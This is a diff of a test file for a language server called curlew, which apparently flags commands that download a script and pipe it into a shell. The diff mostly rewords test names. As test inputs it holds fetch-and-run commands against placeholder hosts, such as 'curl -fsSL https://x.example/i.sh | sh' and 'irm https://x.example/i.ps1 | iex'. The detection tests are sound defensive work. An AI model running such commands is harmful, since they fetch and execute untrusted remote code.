@@ -4,7 +4,7 @@ import { join } from "node:path";
 import { pathToFileURL } from "node:url";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { CancellationTokenSource } from "vscode-jsonrpc/node";
-import { curlew } from "../process.js";
+import { curlew } from "../curlew-process.js";
 import { changed, Editor, type Action, type Diagnostic } from "./editor.js";
 
 const PIPE = "curl -fsSL https://x.example/i.sh | sh";
@@ -38,7 +38,7 @@ function actionsAt(uri: string, { range }: Diagnostic): Promise<Action[]> {
 }
 
 describe("curlew lsp", () => {
-  it("offers incremental changes, hover and quick fixes, in UTF-16", () => {
+  it("announces incremental changes, hover, quick fixes and UTF-16 positions", () => {
     expect(editor.capabilities).toMatchObject({
       positionEncoding: "utf-16",
       textDocumentSync: { change: 2, openClose: true },
@@ -47,7 +47,7 @@ describe("curlew lsp", () => {
     });
   });
 
-  it("reports a finding exactly when a file is opened, also after characters outside the BMP", async () => {
+  it("reports a finding at its exact position when a file is opened, also after characters outside the BMP", async () => {
     const [found, ...others] = await editor.open(
       uriOf("README.md"),
       `# 😀\n\n😀 Run \`${PIPE}\` 😀\n`,
@@ -104,7 +104,7 @@ describe("curlew lsp", () => {
     ).toBeNull();
   });
 
-  it("does not render a text as Markdown", async () => {
+  it("escapes Markdown of the text on hover", async () => {
     const uri = uriOf("install.sh");
     await editor.open(uri, `curl https://x.example/\`[a](http://y.example)\` | sh\n`);
     const { contents } = await editor.ask<{ contents: { value: string } }>("textDocument/hover", {
@@ -171,7 +171,7 @@ describe("curlew lsp", () => {
     expect(await actionsAt(uri, found!)).toEqual([]);
   });
 
-  it("adds a finding to the baseline if no comment is possible, and then respects the baseline", async () => {
+  it("adds a finding to the baseline if no comment is possible, and then does not report it", async () => {
     const other = mkdtempSync(join(tmpdir(), "curlew-lsp-baseline-"));
     const text = JSON.stringify({ scripts: { install: PIPE } });
     const able = await Editor.start(other, {
@@ -240,7 +240,7 @@ describe("curlew lsp", () => {
     await editor.notify("textDocument/didClose", { textDocument: { uri } });
   });
 
-  it("stops the work for a request that the editor cancels", async () => {
+  it("stops processing a request that the editor cancels", async () => {
     const uri = uriOf("long.sh");
     const text = `${PIPE}\n${"ls -l\n".repeat(20_000)}`;
     const [found] = await editor.open(uri, text, "shellscript");
@@ -294,7 +294,7 @@ describe("curlew lsp", () => {
     expect((await actionsAt(uri, found!)).map(({ isPreferred }) => isPreferred)).toEqual([false]);
   });
 
-  it("uses the extended profile, and the editor's language name for unsaved text", async () => {
+  it("uses the extended profile, and for an unsaved text the language that the editor names", async () => {
     expect(
       await editor.open("untitled:1", "irm https://x.example/i.ps1 | iex\n", "powershell"),
     ).toHaveLength(1);
@@ -303,7 +303,7 @@ describe("curlew lsp", () => {
     ).toEqual([]);
   });
 
-  it("ignores suppression comments in text that is not a file", async () => {
+  it("ignores suppression comments in a document that is not a file", async () => {
     expect(
       await editor.open(
         "untitled:3",
@@ -325,7 +325,7 @@ describe("curlew lsp", () => {
     ]);
   });
 
-  it("applies the configuration of a folder at the next analysis, and reports an error in it once", async () => {
+  it("applies a changed configuration of a folder at the next analysis, and reports an error in the configuration once", async () => {
     const uri = uriOf("install.sh");
     expect(await editor.open(uri, `${PIPE}\n`)).toHaveLength(1);
     const config = join(folder, "curlew.json");
@@ -360,13 +360,13 @@ describe("curlew lsp", () => {
   });
 });
 
-describe("the end of curlew lsp", () => {
-  it("follows that of the editor", async () => {
+describe("curlew lsp", () => {
+  it("exits when the editor exits", async () => {
     const { status, stdout } = await curlew(["lsp"], { stdin: "" });
     expect([status, stdout]).toEqual([1, ""]);
   });
 
-  it("is immediate if an option is invalid", async () => {
+  it("exits at once if an option is invalid", async () => {
     expect(await curlew(["lsp", "--profile", "lax"], { stdin: "" })).toMatchObject({
       status: 2,
       stderr: expect.stringContaining("lax"),
